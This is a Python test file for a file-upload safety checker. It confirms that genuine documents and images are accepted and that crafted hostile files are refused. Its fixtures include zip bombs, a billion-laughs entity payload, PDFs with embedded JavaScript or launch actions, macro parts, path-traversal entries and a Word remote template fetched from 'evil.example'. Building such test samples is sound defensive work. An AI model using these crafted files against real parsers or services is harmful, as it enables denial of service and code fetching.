"""What is let in and what is not, by content alone; and hostile files of many kinds."""

import io
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image
from PIL.ExifTags import Base

from onward.dialogue.enums import LARGEST_FILE, FileKind
from onward.dialogue.safety import BadFile, Fault, check_file
from onward.dialogue.safety.names import LONGEST, clean_name
from tests.dialogue.conftest import PDF, WORD, picture, types, word, zipped

EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT = b"application/vnd.oasis.opendocument.text"
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="{}" TargetMode="External"/></Relationships>'
)


def workbook():
    file = io.BytesIO()
    Workbook().save(file)
    return file.getvalue()


def odt(**more):
    return zipped({"mimetype": ODT, "content.xml": "<a/>", **more}, stored=("mimetype",))


GOOD = {
    "a PDF": (PDF, FileKind.PDF),
    "a Word file": (word(), FileKind.WORD),
    "a workbook": (workbook(), FileKind.EXCEL),
    "a text document": (odt(), FileKind.OPEN_TEXT),
    "a photograph": (picture("JPEG"), FileKind.JPEG),
    "a screenshot": (picture("PNG"), FileKind.PNG),
    "a template of the own computer": (
        word({"word/_rels/settings.xml.rels": REMOTE.format("file:///C:\\Users\\m\\CV.dotx")}),
        FileKind.WORD,
    ),
    "a chart with its table": (word({"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook()}), FileKind.WORD),
}


@pytest.mark.parametrize("what", GOOD)
def test_what_may_be_sent_is_known_by_its_content_whatever_it_is_called(what):
    data, kind = GOOD[what]

    found = check_file("mine.exe", data)

    assert (found.kind, found.name) == (kind, f"mine.exe.{kind.value}")


def bomb():
    """A few kilobytes outside, 130 MB inside."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", types(WORD))
        with packed.open("word/media/a.bin", "w") as part:
            for _each in range(130):
                part.write(bytes(1024 * 1024))
    return file.getvalue()


def lying_bomb():
    """Says it holds ten bytes and holds a megabyte."""
    data = bytearray(zipped({"[Content_Types].xml": types(WORD), "word/document.xml": b"\0" * 1024 * 1024}))
    size = (1024 * 1024).to_bytes(4, "little")
    for place in (data.find(size), data.rfind(size)):
        data[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def billion_laughs():
    lol = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><Types>&b;</Types>'
    return zipped({"[Content_Types].xml": lol})


def packed_program():
    hidden = zlib.compress(b"5 0 <</S/Java#53cript/JS(app.alert(1))>>")
    return PDF.replace(b"%%EOF", b"2 0 obj<</Type/ObjStm/N 1>>stream\n" + hidden + b"\nendstream\n%%EOF")


def inflating_pdf():
    hidden = zlib.compress(b" " * (70 * 1024 * 1024), 9)
    return PDF.replace(b"%%EOF", b"2 0 obj<</Type/ObjStm/N 1>>stream\n" + hidden + b"\nendstream\n%%EOF")


def with_password():
    data = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + offset] |= 1
    return bytes(data)


BAD = {
    "nothing": (b"", Fault.EMPTY),
    "too much": (b"%PDF-" + b" " * LARGEST_FILE, Fault.TOO_BIG),
    "a page": (b"<html><script>alert(1)</script></html>", Fault.UNKNOWN),
    "a drawing with a script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', Fault.UNKNOWN),
    "a program": (b"MZ\x90\x00" + bytes(64), Fault.UNKNOWN),
    "old Office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), Fault.OLD_OFFICE),
    "an iPhone's picture": (b"\0\0\0\x18ftypheic" + bytes(64), Fault.HEIC),
    "half a PDF": (b"%PDF-1.7\n1 0 obj", Fault.DAMAGED),
    "a PDF that runs": (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"), Fault.PDF_PROGRAM),
    "a PDF that starts": (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/La#75nch>>"), Fault.PDF_PROGRAM),
    "a PDF with a file": (PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 3 0 R>>"), Fault.PDF_PROGRAM),
    "a PDF that hides it": (packed_program(), Fault.PDF_PROGRAM),
    "a PDF that inflates": (inflating_pdf, Fault.DAMAGED),
    "a PDF that is a ZIP as well": (PDF + word(), Fault.PROGRAM_INSIDE),
    "a ZIP that ends as a PDF": (PDF + word()[:-2] + b"\x05\x00%%EOF", Fault.PROGRAM_INSIDE),
    "Word with macros, renamed": (zipped({"[Content_Types].xml": types(MACRO)}), Fault.PROGRAM_INSIDE),
    "a macro beside": (word({"word/vbaProject.bin": b"x"}), Fault.PROGRAM_INSIDE),
    "a macro that changed its case": (word({"word/VBAPROJECT.BIN": b"x"}), Fault.PROGRAM_INSIDE),
    "a control": (word({"word/activeX/activeX1.xml": "<a/>"}), Fault.PROGRAM_INSIDE),
    "an object": (word({"word/embeddings/oleObject1.bin": b"x"}), Fault.PROGRAM_INSIDE),
    "an old macro sheet": (
        zipped({"[Content_Types].xml": types(EXCEL), "xl/macrosheets/sheet1.xml": "<a/>"}),
        Fault.PROGRAM_INSIDE,
    ),
    "OpenDocument with macros": (odt(**{"Basic/Standard/Module1.xml": "<a/>"}), Fault.PROGRAM_INSIDE),
    "OpenDocument with a script": (odt(**{"Scripts/python/x.py": "x"}), Fault.PROGRAM_INSIDE),
    "a template from afar": (
        word({"word/_rels/settings.xml.rels": REMOTE.format("https://evil.example/x.dotm")}),
        Fault.FETCHES,
    ),
    "a template from a share": (
        word({"word/_rels/settings.xml.rels": REMOTE.format("\\\\evil\\x.dotm")}),
        Fault.FETCHES,
    ),
    "a bomb": (bomb, Fault.DAMAGED),
    "a bomb that lies": (lying_bomb(), Fault.DAMAGED),
    "laughing types": (billion_laughs(), Fault.DAMAGED),
    "a way out": (word({"../../etc/passwd": "x"}), Fault.DAMAGED),
    "a way from the root": (word({"/etc/passwd": "x"}), Fault.DAMAGED),
    "a name twice": (word({"WORD/document.xml": "x"}), Fault.DAMAGED),
    "something before": (b"PK\x03\x04" + b"x" * 60 + word(), Fault.DAMAGED),
    "something behind": (word() + b"<script>", Fault.DAMAGED),
    "too many parts": (word({f"word/{n}.xml": "" for n in range(3001)}), Fault.DAMAGED),
    "a password": (with_password(), Fault.PASSWORD),
    "any ZIP": (zipped({"a.txt": "x"}), Fault.UNKNOWN),
    "two kinds at once": (word({}, EXCEL), Fault.UNKNOWN),
    "an OpenDocument of another kind": (
        zipped({"mimetype": b"application/vnd.oasis.opendocument.base"}, stored=("mimetype",)),
        Fault.UNKNOWN,
    ),
    "half a ZIP": (word()[:60], Fault.DAMAGED),
    "half a picture": (picture("PNG")[:60], Fault.DAMAGED),
}


@pytest.mark.parametrize("what", BAD)
def test_what_may_not_be_sent(what):
    made, fault = BAD[what]
    data = made() if callable(made) else made

    with pytest.raises(BadFile) as bad:
        check_file("CV.pdf", data)

    assert bad.value.fault == fault


def test_a_picture_of_too_many_points_is_refused_before_it_is_painted():
    small = bytearray(picture("PNG", (10, 10)))
    small[16:24] = (30_000).to_bytes(4, "big") * 2
    start = small.find(b"IHDR")
    small[start + 17 : start + 21] = zlib.crc32(bytes(small[start : start + 17])).to_bytes(4, "big")

    with pytest.raises(BadFile) as bad:
        check_file("big.png", bytes(small))

    assert bad.value.fault in {Fault.TOO_LARGE_PICTURE, Fault.DAMAGED}


def test_place_and_camera_stay_outside_and_the_picture_stands_upright():
    exif = Image.Exif()
    exif[Base.Make] = "SecretPhone"
    exif[Base.Orientation] = 6
    exif.get_ifd(0x8825)[1] = "N"
    data = picture("JPEG", (40, 30), exif=exif, comment=b"SecretPlace")
    assert b"SecretPhone" in data
    assert b"SecretPlace" in data

    clean = check_file("a.jpg", data + b"<script>behind</script>").data

    with Image.open(io.BytesIO(clean)) as found:
        assert (found.size, dict(found.getexif())) == ((30, 40), {})
    for word_inside in (b"SecretPhone", b"SecretPlace", b"<script>", b"Exif"):
        assert word_inside not in clean


def test_large_pictures_become_smaller_and_holes_stay():
    holes = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(holes, "PNG")

    with Image.open(io.BytesIO(check_file("a.jpg", picture("JPEG", (7200, 40))).data)) as found:
        assert max(found.size) == 3500
    with Image.open(io.BytesIO(check_file("a.png", holes.getvalue()).data)) as found:
        assert found.getpixel((0, 0))[3] == 0


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("Blåbær\nog mere".encode(), "Blåbær\nog mere"),
        ("Blåbær".encode("utf-8-sig"), "Blåbær"),
        ("Blåbær".encode("utf-16"), "Blåbær"),
        ("Blåbær".encode("cp1252"), "Blåbær"),
        (b"<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_text_is_text_in_one_encoding_whatever_stands_in_it(data, text):
    found = check_file("notes.TXT", data)

    assert (found.kind, found.name, found.data.decode()) == (FileKind.TEXT, "notes.txt", text)


@pytest.mark.parametrize("data", [b"a\x00b", b"\x1b[2J", b"\x81\x8d"])
def test_what_is_no_text_is_no_text(data):
    with pytest.raises(BadFile):
        check_file("notes.txt", data)


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("CV.pdf", "CV.pdf"),
        ("CV.PDF", "CV.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\CV.pdf", "CV.pdf"),
        ("C:\\Users\\m\\Mette Holm.docx", "Mette Holm.docx.pdf"),
        ("\u202efdp.exe", "fdp.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie- x.pdf"),
        ('a";b<c>.pdf', "a-b-c-.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("", "file.pdf"),
        ("...", "file.pdf"),
        ("con.pdf", "_con.pdf"),
        ("Søren\u0301.pdf", "Søreń.pdf"),
        ("x" * 5000 + ".pdf", "x" * (LONGEST - 4) + ".pdf"),
    ],
)
def test_names_lead_nowhere(name, clean):
    assert clean_name(name, FileKind.PDF) == clean


@given(st.text(max_size=300), st.sampled_from(FileKind))
def test_any_name_becomes_a_short_one_that_says_what_it_is(name, kind):
    clean = clean_name(name, kind)

    assert clean.endswith(f".{kind.value}")
    assert len(clean) <= LONGEST
    assert not set(clean) & set('<>:"/\\|?*\r\n\x00')
    assert clean_name(clean, kind) == clean


@given(st.binary(max_size=400))
def test_any_bytes_are_either_good_or_refused(data):
    for start in (b"", b"%PDF-", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"):
        try:
            check_file("a.txt", start + data)
        except BadFile:
            continue


@given(st.data())
def test_a_document_with_some_bytes_turned_is_either_good_or_refused(data):
    whole = bytearray(word())
    for _each in range(data.draw(st.integers(1, 6))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        check_file("a.docx", bytes(whole))
    except BadFile:
        return
